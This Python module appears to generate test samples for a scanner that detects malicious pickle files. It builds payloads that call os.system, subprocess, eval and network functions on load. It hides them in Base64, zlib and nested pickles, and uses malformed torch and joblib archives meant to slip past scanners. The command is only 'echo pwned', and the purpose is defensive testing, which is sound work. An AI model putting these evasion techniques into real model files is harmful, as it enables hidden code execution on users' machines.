"""Malicious pickles, made at run time: none is ever loaded, and none stands in a file of the project."""

from __future__ import annotations

import base64
import gzip
import zipfile
import zlib

from eval import opcodes as op
from eval.opcodes import Sample

_COMMAND = op.text("echo pwned")
# Imports that run code, reach files or the network, each with arguments that would do so.
_CALLS = (
    "os:system posix:system nt:system os:popen os:execv os:spawnl os.path:os.system subprocess:Popen"
    " subprocess:run subprocess:check_output subprocess:getoutput commands:getoutput builtins:eval builtins:exec"
    " __builtin__:eval builtins:compile builtins:__import__ builtins:open __builtin__:file builtins:breakpoint"
    " importlib:import_module runpy:run_path runpy:_run_code code:InteractiveInterpreter"
    " code:InteractiveInterpreter.runcode codeop:compile_command pty:spawn pdb:run bdb:Bdb.run cProfile:run"
    " profile:runctx timeit:timeit trace:Trace.run pydoc:locate pydoc:pipepager webbrowser:open ctypes:CDLL"
    " socket:create_connection urllib.request:urlopen urllib2:urlopen http.client:HTTPSConnection"
    " httplib:HTTPConnection requests:get requests.api:post ftplib:FTP smtplib:SMTP shutil:rmtree shutil:copyfile"
    " pickle:loads _pickle:loads marshal:loads dill:loads cloudpickle.cloudpickle:_make_function"
    " types:FunctionType types:CodeType multiprocessing:Process asyncio:create_subprocess_shell pip:main"
    " pip._internal:main distutils.spawn:spawn setuptools:setup ensurepip:_run_pip venv:main doctest:debug_script"
    " idlelib.run:Executive.runcode lib2to3.pgen2.grammar:Grammar.loads pkgutil:resolve_name logging.config:listen"
    " logging:FileHandler tempfile:mktemp sys:settrace numpy.testing._private.utils:runstring"
    " numpy.f2py.crackfortran:getlincoef torch.hub:load torch:load torch.utils.collect_env:run"
    " torch._inductor.codecache:compile_file torch.jit.unsupported_tensor_ops:execWrapper"
    " torch.utils.bottleneck.__main__:run_cprofile pandas:read_pickle pandas.io.pickle:read_pickle numpy:load"
    " joblib:load _osx_support:_read_output uuid:_get_command_stdout torch.fx.graph_module:reduce_graph_module"
    " unittest.mock:_importer functools:reduce operator:methodcaller paramiko:SSHClient psutil:Popen"
    " sqlite3:connect zipimport:zipimporter"
)


def malicious() -> list[Sample]:
    """Return pickles that run something when they are loaded, in every form that is known."""
    plain = [_call(*entry.split(":", 1), protocol=place % 6) for place, entry in enumerate(_CALLS.split())]
    return [*plain, *_written(), *_hidden(), *_contained()]


def _call(module: str, name: str, *, protocol: int) -> Sample:
    callee = op.stacked(module, name) if protocol >= 4 else op.named(module, name)  # noqa: PLR2004 - STACK_GLOBAL is of protocol 4
    body = op.call(callee, _COMMAND if protocol else b"S'echo pwned'\n")
    content = op.pickled(body, protocol) if protocol > 1 else body + op.STOP
    return Sample(f"{module}.{name}, protocol {protocol}", "model.pkl", content)


def _written() -> list[Sample]:
    """Return one call in the ways in which opcodes can write it, and streams that break off behind it."""
    reduced = op.call(op.named("posix", "system"), _COMMAND)
    far = op.text("posix") + b"q\x07" + op.text("system") + b"r\x09\x00\x00\x000" * 1 + b"0" + b"N0" * 40
    bodies = {
        "INST": b"(" + _COMMAND + b"iposix\nsystem\n",
        "OBJ": b"(" + op.named("posix", "system") + _COMMAND + b"o",
        "NEWOBJ": op.named("subprocess", "Popen") + op.tuple_of(_COMMAND) + b"\x81",
        "NEWOBJ_EX": op.named("subprocess", "Popen") + op.tuple_of(_COMMAND) + b"}\x92",
        "names from the memo": far + b"h\x07" + b"j\x09\x00\x00\x00" + b"\x93" + op.tuple_of(_COMMAND) + b"R",
        "names in long strings": b"X\x05\x00\x00\x00posix"
        b"\x8d\x06" + bytes(7) + b"system" + b"\x93" + op.tuple_of(_COMMAND) + b"R",
        "names doubled and dropped": op.text("posix")
        + op.text("none")
        + b"0"
        + op.text("system")
        + b"20\x93"
        + op.tuple_of(_COMMAND)
        + b"R",
        "name made by a call": op.text("posix")
        + op.call(op.named("builtins", "str"), op.text("system"))
        + b"\x93"
        + op.tuple_of(_COMMAND)
        + b"R",
        "attribute of a module": op.call(
            op.call(
                op.named("builtins", "getattr"),
                op.call(op.named("builtins", "__import__"), op.text("os")),
                op.text("system"),
            ),
            _COMMAND,
        ),
        "attribute of a class": op.call(
            op.call(op.named("builtins", "getattr"), op.named("builtins", "object"), op.text("__subclasses__"))
        ),
        "attributes by a path": op.stacked("torch", "serialization.os.system") + op.tuple_of(_COMMAND) + b"R",
        "through partial": op.call(op.call(op.named("functools", "partial"), op.named("posix", "system"), _COMMAND)),
        "through map": op.call(
            op.named("builtins", "list"),
            op.call(op.named("builtins", "map"), op.named("posix", "system"), b"](" + _COMMAND + b"e"),
        ),
        "as a state": op.made(
            op.named("collections", "OrderedDict"), op.dictionary({"__setstate__": op.named("posix", "system")})
        ),
        "in a tuple thrown away": reduced + b"0N",
        "after a mark thrown away": b"(" + _COMMAND + b"1" + reduced,
        "extended frame": b"\x95" + (len(reduced)).to_bytes(8, "little") + reduced,
    }
    samples = [Sample(kind, "model.pkl", op.pickled(body)) for kind, body in bodies.items()]
    begun = op.PROTOCOL_4 + reduced
    old = b"cposix\nsystem\n(S'echo pwned'\ntR"
    broken = {
        "no STOP": begun,
        "unknown opcode behind": begun + b"\xff\xff",
        "text cut off behind": begun + b"X\xff\xff\x00\x00abc",
        "empty stack behind": begun + b"000000.",
        "missing memo behind": begun + b"h\xee.",
        "old, no STOP": old,
        "old, broken behind": old + b"\xff",
        "old, number in front": b"I42\n0" + old + b".",
        "old, list in front": b"(lp0\n" + old + b"a.",
        "protocol 0 with PROTO": b"\x80\x00" + old + b".",
        "number that only C reads": op.PROTOCOL_4
        + b"I0x10\n0"
        + far
        + b"h\x07j\x09\x00\x00\x00\x93"
        + op.tuple_of(_COMMAND)
        + b"R.",
        "break in front that only pickletools minds": op.PROTOCOL_4 + b"S'unbalanced\n0" + reduced + b".",
        "second pickle": op.pickled(b"N") + begun + b".",
        "third pickle, no STOP": op.pickled(b"N") * 2 + begun,
    }
    return samples + [Sample(kind, "model.pkl", content) for kind, content in broken.items()]


def _hidden() -> list[Sample]:
    """Return pickles in constants of pickles, in every packing."""
    inner = op.pickled(op.call(op.named("posix", "system"), _COMMAND))
    stacked = op.pickled(op.call(op.stacked("subprocess", "check_output"), _COMMAND))
    packings = {
        "bytes": op.data(inner),
        "short bytes": b"C" + bytes([len(inner)]) + inner,
        "bytearray": b"\x96" + len(inner).to_bytes(8, "little") + inner,
        "text": op.text(inner.decode("latin-1")),
        "Base64": op.text(base64.b64encode(inner).decode()),
        "Base64 of STACK_GLOBAL": op.data(base64.b64encode(stacked)),
        "URL-safe Base64": op.text(base64.urlsafe_b64encode(stacked).decode().rstrip("=")),
        "hexadecimal": op.text(inner.hex()),
        "escapes": op.text("".join(f"\\x{byte:02x}" for byte in inner)),
        "zlib": op.data(zlib.compress(inner)),
        "gzip": op.data(gzip.compress(inner)),
        "Base64 of zlib": op.text(base64.b64encode(zlib.compress(inner)).decode()),
        "zip": op.data(op.torch_archive(inner)),
        "twice": op.data(op.pickled(op.data(inner))),
        "Base64 twice": op.text(base64.b64encode(op.pickled(op.text(base64.b64encode(inner).decode()))).decode()),
        "source text": op.text(
            f"import base64, pickle; pickle.loads(base64.b64decode('{base64.b64encode(stacked).decode()}'))"
        ),
        "text encoded": op.call(op.named("_codecs", "encode"), op.text(inner.decode("latin-1")), op.text("latin1")),
        "storage of torch": op.call(op.named("torch.storage", "_load_from_bytes"), op.data(op.torch_legacy(inner))),
        "value of a dictionary": op.dictionary({"weights": op.data(inner)}),
        "state of an object": op.made(
            op.named("sklearn.svm._classes", "SVC"), op.dictionary({"_impl": op.data(inner)})
        ),
    }
    return [Sample(f"hidden in {kind}", "model.pkl", op.pickled(body)) for kind, body in packings.items()]


def _contained() -> list[Sample]:
    """Return pickles in the files of frameworks, and archives that scanners and loaders read differently."""
    inner = op.pickled(op.call(op.named("posix", "system"), _COMMAND), 2)
    state = op.pickled(
        op.dictionary({"weight": op.tensor("0"), "run": op.call(op.named("posix", "system"), _COMMAND)}), 2
    )
    archive = op.torch_archive(state)
    local = archive.find(b"archive/data.pkl") - 30
    central = archive.find(b"PK\x01\x02")
    crc = bytearray(archive)
    crc[local + 14] ^= 0xFF
    crc[central + 16] ^= 0xFF
    encrypted = bytearray(archive)
    encrypted[local + 6] |= 1
    encrypted[central + 8] |= 1
    renamed = archive[: local + 30] + b"archive/data.pk_" + archive[local + 46 :]
    unlisted = archive[local : archive.find(b"PK\x03\x04", local + 4)] + op.zipped({"readme.txt": b"weights"})
    raw = op.call(op.named("posix", "system"), _COMMAND)
    wrapped = op.joblib_array(bytes(64) + raw + bytes(64 + -len(raw) % 8))
    return [
        Sample("torch", "model.pt", archive),
        Sample("torch, legacy", "model.pth", op.torch_legacy(state)),
        Sample("torch, tar", "model.tar", op.tarred({"pickle": inner, "storages": b""})),
        Sample("torch, compressed", "model.bin", op.zipped({"archive/data.pkl": state}, zipfile.ZIP_DEFLATED)),
        Sample("torch, other names", "model.ckpt", op.zipped({"x/weights": inner})),
        Sample("wrong checksum", "model.pt", bytes(crc)),
        Sample("claims to be encrypted", "model.pt", bytes(encrypted)),
        Sample("two names", "model.pt", renamed),
        Sample("not in the directory", "model.pt", unlisted),
        Sample("array of objects", "data.npy", op.array_of_objects(inner)),
        Sample(
            "archive of arrays", "data.npz", op.zipped({"arr_0.npy": op.array_of_objects(inner)}, zipfile.ZIP_DEFLATED)
        ),
        Sample("joblib, zlib", "model.joblib", zlib.compress(inner)),
        Sample("joblib, gzip", "model.joblib", gzip.compress(inner)),
        Sample("joblib, behind an array", "model.joblib", op.pickled(op.joblib_array(bytes(80)) + raw)),
        Sample("joblib, in an array", "model.joblib", op.pickled(wrapped)),
        Sample("pickle with a zip behind", "model.pt", inner + op.zipped({"a.txt": b"a"})),
        Sample("no ending", "weights", inner),
        Sample("ending of another kind", "photo.jpg", inner),
        Sample(
            "Base64 in source",
            "load.py",
            b'W = "'
            + base64.b64encode(op.pickled(b"\x95" + bytes(8) + op.call(op.stacked("posix", "system"), _COMMAND)))
            + b'"',
        ),
    ]
